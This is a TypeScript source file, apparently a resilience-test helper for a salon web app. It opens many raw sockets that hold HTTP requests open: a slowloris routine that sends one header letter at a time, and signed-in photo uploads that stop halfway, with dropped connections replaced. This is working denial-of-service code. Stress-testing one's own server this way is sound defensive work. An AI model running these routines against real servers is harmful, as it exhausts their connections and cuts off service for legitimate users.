import { connect, type Socket } from 'node:net'
import { setTimeout as pause } from 'node:timers/promises'
import { photoForm } from './photo-form.ts'

interface Slow {
  readonly many: number
  readonly address: string
  readonly begin: (socket: Socket) => void
  readonly goOn?: (socket: Socket) => void
}

/** Connections that are held open, how many were cut, and what was answered, by status. */
export interface OpenSockets {
  readonly stats: { opened: number; cut: number; answers: Record<string, number> }
  readonly goOn: () => void
  readonly stop: () => void
}

/**
 * Connections that are kept open from our side for as long as the other side bears it; a new one takes
 * the place of one that was closed.
 */
const keepOpen = ({ many, address, begin, goOn }: Slow): OpenSockets => {
  const { hostname, port } = new URL(address)
  const open = new Set<Socket>()
  const answers: Record<string, number> = {}
  const stats = { opened: 0, cut: 0, answers }
  let isOver = false
  const one = () => {
    if (isOver) return
    const socket = connect(Number(port), hostname)
    open.add(socket)
    stats.opened += 1
    socket.on('connect', () => begin(socket))
    socket.on('data', (bytes) => {
      const [, status] = /^HTTP\/1\.1 (\d{3})/.exec(bytes.toString('latin1')) ?? []
      if (status) answers[status] = (answers[status] ?? 0) + 1
    })
    socket.on('error', () => {})
    socket.on('close', () => {
      open.delete(socket)
      if (isOver) return
      stats.cut += 1
      // Not at once: a server that refuses everybody is not to be drowned in trying again.
      setTimeout(one, 200)
    })
  }
  for (let n = 0; n < many; n++) one()
  return {
    stats,
    goOn: () => {
      for (const socket of open) if (!socket.connecting) goOn?.(socket)
    },
    stop: () => {
      isOver = true
      for (const socket of open) socket.destroy()
    },
  }
}

/** Callers whose request never ends: a letter of a header now and then. */
export const slowLoris = (address: string, many: number) =>
  keepOpen({
    many,
    address,
    begin: (socket) => void socket.write('GET /api/user HTTP/1.1\r\nHost: salon\r\nX-Slow: '),
    goOn: (socket) => void socket.write('a'),
  })

/** Callers who are signed in, send half of a picture, and say nothing more. */
export const halfUploads = (
  { address, cookie, upload }: { address: string; cookie: string; upload: string },
  many: number,
  picture: Buffer,
) => {
  const { body, headers } = photoForm(picture, 'before')
  const head =
    `POST ${upload} HTTP/1.1\r\nHost: salon\r\nCookie: ${cookie}\r\n` +
    `Content-Type: ${headers['content-type']}\r\nContent-Length: ${body.length}\r\n\r\n`
  return keepOpen({
    many,
    address,
    begin: (socket) => {
      socket.write(head)
      socket.write(body.subarray(0, Math.floor(body.length / 2)))
    },
  })
}

/** Lets all of them go on for so many seconds. */
export const torment = async (all: readonly OpenSockets[], seconds: number) => {
  for (const end = Date.now() + seconds * 1000; Date.now() < end; await pause(2_000)) {
    for (const one of all) one.goOn()
  }
}
